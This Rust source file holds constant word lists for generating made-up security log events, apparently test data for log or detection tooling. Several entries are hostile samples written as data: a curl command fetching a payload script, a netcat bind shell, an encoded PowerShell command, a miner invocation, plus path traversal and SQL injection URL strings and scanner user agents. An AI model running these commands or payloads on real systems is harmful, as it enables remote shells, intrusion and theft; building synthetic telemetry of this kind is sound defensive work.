//! Words of the made-up events.

/// Users.
pub const USERS: [&str; 16] = [
    "alice",
    "bob",
    "carol",
    "dave",
    "erin",
    "frank",
    "grace",
    "heidi",
    "ivan",
    "judy",
    "root",
    "SYSTEM",
    "svc_backup",
    "svc_web",
    "admin",
    "postgres",
];
/// Paths of processes, with JSON escapes.
pub const PROCS: [&str; 16] = [
    "C:\\\\Windows\\\\System32\\\\cmd.exe",
    "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
    "C:\\\\Windows\\\\System32\\\\svchost.exe",
    "C:\\\\Program Files\\\\Google\\\\Chrome\\\\chrome.exe",
    "C:\\\\Windows\\\\System32\\\\rundll32.exe",
    "C:\\\\Windows\\\\System32\\\\wbem\\\\WMIC.exe",
    "C:\\\\Users\\\\Public\\\\update.exe",
    "/usr/bin/bash",
    "/usr/bin/curl",
    "/usr/bin/ssh",
    "/usr/sbin/sshd",
    "/usr/bin/python3",
    "/usr/bin/nc",
    "/opt/app/bin/server",
    "/tmp/.x/kworker",
    "/usr/bin/sudo",
];
/// Command lines, with JSON escapes.
pub const CMDS: [&str; 16] = [
    "cmd.exe /c whoami /all",
    "powershell.exe -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "svchost.exe -k netsvcs -p -s Schedule",
    "chrome.exe --type=renderer --lang=en-US --enable-features=Foo",
    "rundll32.exe C:\\\\Users\\\\Public\\\\a.dll,Start",
    "wmic process call create notepad.exe",
    "update.exe --silent --install-dir=C:\\\\ProgramData",
    "bash -c 'cat /etc/passwd | grep root'",
    "curl -sSL http://203.0.113.77/payload.sh -o /tmp/p.sh",
    "ssh -o StrictHostKeyChecking=no deploy@10.4.5.6 uptime",
    "sshd: deploy [priv]",
    "python3 -m http.server 8000 --bind 0.0.0.0",
    "nc -lvnp 4444 -e /bin/sh",
    "/opt/app/bin/server --config /etc/app/app.yaml --port 8443",
    "/tmp/.x/kworker -o pool.example.net:3333 -u wallet",
    "sudo -u root systemctl restart nginx",
];
/// Paths of URLs; `%d` stands for a number.
pub const PATHS: [&str; 16] = [
    "/",
    "/login",
    "/api/v1/users",
    "/api/v1/orders?id=%d",
    "/static/app.%d.js",
    "/admin/config.php",
    "/wp-login.php",
    "/search?q=%d",
    "/download/file-%d.zip",
    "/../../etc/passwd",
    "/api/v2/items/%d",
    "/health",
    "/index.php?id=%d' OR '1'='1",
    "/img/%d.png",
    "/cgi-bin/test.cgi",
    "/graphql",
];
/// Web hosts.
pub const HOSTN: [&str; 8] = [
    "www.example.com",
    "api.example.com",
    "cdn.example.net",
    "intranet.example.org",
    "203.0.113.9",
    "files.example.com",
    "pool.example.net",
    "login.example.com",
];
/// User agents of dense events.
pub const UAS: [&str; 8] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "curl/8.5.0",
    "python-requests/2.31.0",
    "sqlmap/1.8#stable (https://sqlmap.org)",
    "Go-http-client/1.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) Mobile/15E148",
    "Nikto/2.5.0",
];
/// HTTP states.
pub const STATUS: [u32; 16] =
    [200, 200, 200, 200, 200, 200, 301, 302, 304, 400, 401, 403, 404, 404, 500, 503];
/// Ports.
pub const PORTS: [u32; 16] = [443, 443, 443, 80, 80, 22, 53, 53, 3389, 445, 8080, 8443, 4444, 3333, 25, 5432];
/// Kinds of events.
pub const TYPES: [&str; 8] =
    ["process_start", "process_start", "login", "net_conn", "net_conn", "http", "http", "http"];
/// User agents of quiet events.
pub const AGENTS: [&str; 8] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "curl/8.5.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) Mobile/15E148",
    "okhttp/4.12.0",
    "Java/17.0.10",
];
